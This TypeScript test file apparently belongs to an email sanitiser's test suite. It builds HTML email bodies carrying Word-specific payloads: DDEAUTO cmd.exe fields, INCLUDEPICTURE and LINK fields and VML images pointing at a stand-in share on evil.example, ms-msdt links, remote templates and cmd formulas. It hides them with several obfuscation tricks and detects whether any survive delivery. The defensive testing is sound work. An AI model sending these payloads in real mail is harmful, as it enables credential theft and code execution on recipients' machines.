/** Fields, objects and files that Word finds in an HTML body, and a browser does not. */
import { emailWith } from '../../pipeline/rig.ts';
import { mailAttack } from './attack-class.ts';
import { elementsOf, htmlOf, type PageElement, unfolded } from './delivered-page.ts';
import { ORDINARY_BODIES } from './ordinary-bodies.ts';

const SHARE = '\\\\evil.example\\s\\x';
const CODES: Readonly<Record<string, string>> = {
  'picture of a share': ` INCLUDEPICTURE "${SHARE}.png" \\d `,
  'text of a share': ` INCLUDETEXT "${SHARE}.docx" `,
  'link to a share': ` LINK Word.Document.8 "${SHARE}.doc" "" \\a \\f 0 `,
  'link to a tool': ' HYPERLINK "ms-msdt:/id PCWDiagnostic" ',
  'link to a search': ' HYPERLINK "search-ms:query=x&crumb=location:\\\\evil.example\\s" ',
  command: ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k x" ',
  conversation: ' DDE cmd "/k x" ',
  macro: ' MACROBUTTON AutoOpen Click ',
};

type Write = (code: string) => string;
const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
/** How the letters of a code are cut. */
const SPLITS: Readonly<Record<string, Write>> = {
  whole: escaped,
  'by elements': (code) => escaped(code).replace(/[A-Z]{3}/g, '$&</span><span>'),
  'by entities': (code) => code.replace(/[A-Z]/g, (letter) => `&#${letter.charCodeAt(0)};`),
  'by comments': (code) => escaped(code).replace(/[A-Z]{3}/g, '$&<!-- x -->'),
  'by a field': (code) =>
    code.replace(
      /[A-Z]{3}/,
      (start) => `${start}${begin('mso-element:field-begin')} QUOTE 68 ${begin('mso-element:field-end')}`,
    ),
};
const begin = (style: string) => `<span style='${style}'></span>`;
const field = (mark: (word: string) => string, code: string) =>
  `${mark('begin')}<span>${code}</span>${mark('separator')}x${mark('end')}`;
/** How the field is marked. */
const MARKS: Readonly<Record<string, Write>> = {
  style: (code) => field((word) => begin(`mso-element:field-${word}`), code),
  'style in capitals': (code) =>
    field((word) => `<SPAN STYLE="MSO-ELEMENT : FIELD-${word.toUpperCase()}"></SPAN>`, code),
  'style behind others': (code) => field((word) => begin(`color:red;mso-element:field-${word};mso-no-proof:yes`), code),
  'style with escapes': (code) => field((word) => begin(`mso-\\65lement:field-${word}`), code),
  'style with a comment': (code) => field((word) => begin(`mso-element:/**/field-${word}`), code),
  'style in entities': (code) => field((word) => `<b style="mso&#45;element&colon;field&#x2d;${word}"></b>`, code),
  'a sheet': (code) =>
    `<style>.b{mso-element:field-begin}.s{mso-element:field-separator}.e{mso-element:field-end}</style>${field((word) => `<i class=${word[0]}></i>`, code)}`,
  'a sheet for pages': (code) =>
    `<style><!-- @page a{size:5in} b.b{color:red;mso-element:field-begin} u{mso-element:field-end} --></style>${field((word) => `<b class=${word[0]}></b>`, code)}`,
  'a property of a page': (code) => field((word) => begin(`--x:mso-element:field-${word}`), code),
  'a block that nobody knows': (code) =>
    `<style>@x{.b{mso-element:field-begin}}@bottom mso-element:field-end{}</style>${field((word) => `<b class=${word[0]}></b>`, code)}`,
  'a code in style': (code) =>
    `<span style='mso-field-code:"${code.replaceAll('"', '\\0022 ').replaceAll("'", '')}"'>x</span>`,
  'a simple field': (code) => `<w:fldSimple w:instr="${code.replaceAll('"', '&quot;')}">x</w:fldSimple>`,
  'runs of a document': (code) =>
    `<w:fldChar w:fldCharType="begin"/><w:instrText>${code}</w:instrText><w:fldChar w:fldCharType="end"/>`,
};
/** Where it stands. */
const PLACES: Readonly<Record<string, Write>> = {
  open: (markup) => markup,
  'for programs with fields': (markup) => `<!--[if supportFields]>${markup}<![endif]-->`,
  'for Outlook': (markup) => `<!--[if gte mso 9]>${markup}<![endif]-->`,
  'shown to all': (markup) => `<![if supportFields]>${markup}<![endif]>`,
  'in a comment within': (markup) => `<!--[if mso]><!-- ${markup} --><![endif]-->`,
  'in a condition that is not closed': (markup) => `<!--[if mso>${markup}<![endif]-->`,
  'in a condition with a blank': (markup) => `<!-- [ if mso ]>${markup}<! [endif] -->`,
  'in a condition in entities': (markup) => `<!--[if &#109;so]>${markup}<![endif]-->`,
  'in a plain comment': (markup) => `<!-- ${markup} -->`,
  'in an island': (markup) => `<!--[if gte mso 9]><xml>${markup}</xml><![endif]-->`,
  'in a cell without a table': (markup) => `<td>${markup}</td>`,
};

const FILE = 'file://evil.example/s/x';
/** What is no field, and makes Word or its kin load, run or ask. */
const OBJECTS: Readonly<Record<string, string>> = {
  'a shape with a picture': `<v:shape style="width:1px"><v:imagedata src="${SHARE}.png"/></v:shape>`,
  'a picture by another name': `<v:shape><v:imagedata src="cid:a" o:href="${FILE}.png"/></v:shape>`,
  'a second address': `<v:shape><v:imagedata src="cid:a" o:althref="${SHARE}.png"/></v:shape>`,
  'a relation': `<v:shape><v:imagedata r:href="//evil.example/s" r:id="x"/></v:shape>`,
  'a filled shape': `<v:rect><v:fill type="tile" src="//evil.example/s/x.png"/></v:rect>`,
  'a shape with a link': '<v:roundrect href="ms-msdt:/id x"><center>Buy</center></v:roundrect>',
  'a shape with a package': '<v:shape o:gfxdata="UEsDBBQABgAIAAAAIQ"></v:shape>',
  'an object': '<o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="a" UpdateMode="Always"></o:OLEObject>',
  'an object of Word': '<w:object><w:ocx w:name="x"/></w:object>',
  'a template': `<w:AttachedTemplate HRef="${FILE}.dotm"/>`,
  'a frame of Word': `<w:frame><w:sourceFileName w:val="${FILE}"/></w:frame>`,
  'a part of a document': '<w:altChunk r:id="x"/>',
  'a bound control': '<w:sdt DataBinding="x" StoreItemID="x">x</w:sdt>',
  'data of a package': '<w:binData w:name="editdata.mso">UEsDBBQ</w:binData>',
  'a data source': `<w:mailMerge><w:dataSource w:val="${FILE}"/></w:mailMerge>`,
  'a smart tag that loads': '<o:SmartTagType namespaceuri="x" name="y" downloadurl="http://evil.example/"/>',
  'a list of files': `<link rel=File-List href="${FILE}/filelist.xml">`,
  'a list of files on the web': '<link rel=File-List href="http://evil.example/filelist.xml">',
  macros: '<link rel=Edit-Time-Data href="cid:editdata.mso">',
  objects: '<link rel=OLE-Object-Data href="http://evil.example/oledata.mso">',
  'a data store': '<link rel=dataStoreItem href="item0001.xml" target="props0002.xml">',
  'a theme': '<link rel=themeData href="http://evil.example/themedata.thmx">',
  colours: `<link rel=colorSchemeMapping href="${FILE}.xml">`,
  'another program': '<meta name=ProgId content=Excel.Sheet>',
  'another program in a declaration': '<?mso-application progid="Excel.Sheet"?>',
  'an element with a behaviour': '<?import namespace="t" implementation="#default#time2">',
  'a style sheet of XML': '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>',
  'an entity': '<!ENTITY x SYSTEM "file:///c:/x">',
  'an island that loads': '<xml id=i src="http://evil.example/x.xml"></xml>',
  'bound data': '<span datasrc=#i datafld=c dataformatas=html></span>',
  'a behaviour': '<p style="behavior:url(#default#time2)">x</p>',
  'a binding': '<style>p{-moz-binding:url(http://evil.example/x.xml#a)}</style>',
  'an imported sheet': `<style>@import "${FILE}.css";</style>`,
  'an expression': '<p style="width:expression(alert(1))">x</p>',
  'a header of a document': `<style>@page a{mso-header:url("${FILE}.htm") h1;}</style>`,
  'a separator of notes': `<style>@page{mso-footnote-separator:url("cid:header.htm") fs;}</style>`,
  'a formula': '<table><td x:fmla="=WEBSERVICE(&quot;http://evil.example/&quot;)">1</td></table>',
  'a formula as a text': '<table><td x:str="=cmd|&apos;/c x&apos;!A0">1</td></table>',
  'a name space of its own': '<html xmlns:q="urn:schemas-microsoft-com:office:word"><q:instrText>DDE cmd</q:instrText>',
  'an element of a name space':
    '<xml:namespace ns="urn:schemas-microsoft-com:office:word" prefix="q"/><q:fldSimple>x</q:fldSimple>',
  'character data': '<![CDATA[<w:instrText>DDE cmd</w:instrText>]]>',
  'a control': '<object classid="clsid:x" codebase="http://evil.example/x.cab"><param name=a value=b></object>',
  'a plug-in': '<embed src="http://evil.example/x.swf">',
  'a tag without an end': `<img src="${FILE}.png" `,
};

interface WordCase {
  readonly id: string;
  readonly email: Uint8Array;
  readonly page: string;
}

const TABLE = '<table width="600"><tr><td>Hello <a href="https://shop.example/news">news</a></td></tr></table>';
const bodyOf = (markup: string) => `<html><head><title>News</title></head><body>${TABLE}${markup}</body></html>`;
function caseOf(id: string, page: string): WordCase {
  return { id, page, email: Buffer.from(emailWith({ text: 'Hello', html: page })) };
}

/** One of each axis with all others at their plainest, and a walk through the rest that meets every pair of neighbours. */
function* fields(): Generator<WordCase> {
  const [codes, splits, marks, places] = [CODES, SPLITS, MARKS, PLACES].map(Object.entries) as [
    [string, string][],
    [string, Write][],
    [string, Write][],
    [string, Write][],
  ];
  for (const [index, [mark, marked]] of marks.entries())
    for (const [at, [place, placed]] of places.entries()) {
      const [code, text] = codes[(index + at) % codes.length] ?? ['', ''];
      const [split, cut] = splits[(index * 2 + at) % splits.length] ?? ['', escaped];
      yield caseOf(`${code}, ${mark}, ${place}, cut ${split}`, bodyOf(placed(marked(cut(text)))));
    }
}

function* objects(): Generator<WordCase> {
  const places = Object.entries(PLACES).filter(([place]) => !/island|cell/.test(place));
  for (const [index, [name, markup]] of Object.entries(OBJECTS).entries())
    for (const step of [0, 1, 2, 5]) {
      const [place, placed] = places[(index + step) % places.length] ?? ['', escaped];
      yield caseOf(`${name}, ${place}`, bodyOf(placed(markup)));
    }
}

/** The elements of Office that only say how a text looks, and shapes. */
const HARMLESS_OFFICE = /^(?:o:p|v:(?:shape|roundrect|rect|fill|textbox|imagedata|shapetype|stroke))$/;
const HARMLESS_ADDRESS = /^(?:https:\/\/shop\.example\/|cid:|#|$)/;

/** What Word would act on in an element. An own model: it knows nothing of lists, only of what is dangerous. */
function threatIn({ tagName, attrs, childNodes }: PageElement): string | null {
  const text = childNodes.map((child) => ('value' in child ? child.value : '')).join('');
  const styles = attrs.filter(({ name }) => name === 'style').map(({ value }) => value);
  for (const style of tagName === 'style' ? [text] : styles) {
    const plain = style
      .replace(/\\([0-9a-f]{1,6})\s?/gi, (_, digits: string) => String.fromCharCode(Number.parseInt(digits, 16)))
      .replace(/\/\*|\*\//g, '');
    const found = /mso-element\s*:\s*field|mso-field|behavior\s*:|-moz-binding|expression\(|@import|url\(/i.exec(plain);
    if (found !== null) return `style with ${found[0]}`;
  }
  if (/^(?:object|embed|param|xml|script)$/.test(tagName) || (tagName.includes(':') && !HARMLESS_OFFICE.test(tagName)))
    return `<${tagName}>`;
  for (const { name, value } of attrs) {
    const where = `${tagName} ${name}="${value}"`;
    if (
      /^(?:src|href|data|codebase|background|.*:href|o:althref|.*:id|downloadurl)$/.test(name) &&
      !HARMLESS_ADDRESS.test(value)
    )
      return where;
    if (/^(?:o:gfxdata|x:fmla|x:str|datasrc|w:instr|classid)$/.test(name)) return where;
    if (tagName === 'meta' && name === 'content' && /excel/i.test(value)) return where;
    if (tagName === 'link' && name === 'rel') return where;
  }
  return null;
}

function threatOf(html: string): string | null {
  const declaration = /<\?(?:mso-|import|xml-)|<!ENTITY/i.exec(html);
  if (declaration !== null) return declaration[0];
  // Behind its end, a page may hold half a tag, which a program that is less strict takes for a whole one.
  for (const reading of [html, unfolded(html), `${unfolded(html)}">`])
    for (const element of elementsOf(reading)) {
      const threat = threatIn(element);
      if (threat !== null) return threat;
    }
  return null;
}

export const wordBodies = mailAttack<WordCase>({
  name: 'word-bodies',
  title: 'fields, objects and files that only Word finds in an HTML body',
  *cases() {
    yield* fields();
    yield* objects();
  },
  async judge(_, { message }) {
    const threat = threatOf(await htmlOf(message));
    return threat === null ? null : `Word would find ${threat}`;
  },
  *ordinary() {
    for (const [name, page] of Object.entries(ORDINARY_BODIES)) yield caseOf(`ordinary: ${name}`, page);
  },
  judgeOrdinary({ page }, { message }) {
    return Buffer.from(message).includes(page) ? null : 'an ordinary body was not delivered byte for byte';
  },
});
